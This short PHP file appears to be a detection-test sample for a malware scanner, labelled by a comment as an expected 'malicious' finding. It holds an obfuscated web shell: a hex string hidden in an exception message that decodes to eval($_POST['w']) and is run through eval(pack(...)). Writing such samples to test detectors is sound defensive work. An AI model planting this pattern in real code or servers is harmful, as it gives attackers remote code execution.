<?php return; // want: malicious php.code.request
try {
	throw new Exception('6576616c28245f504f53545b2777275d293b');
} catch (Exception $e) {
	eval(pack('H*', $e->getMessage()));
}
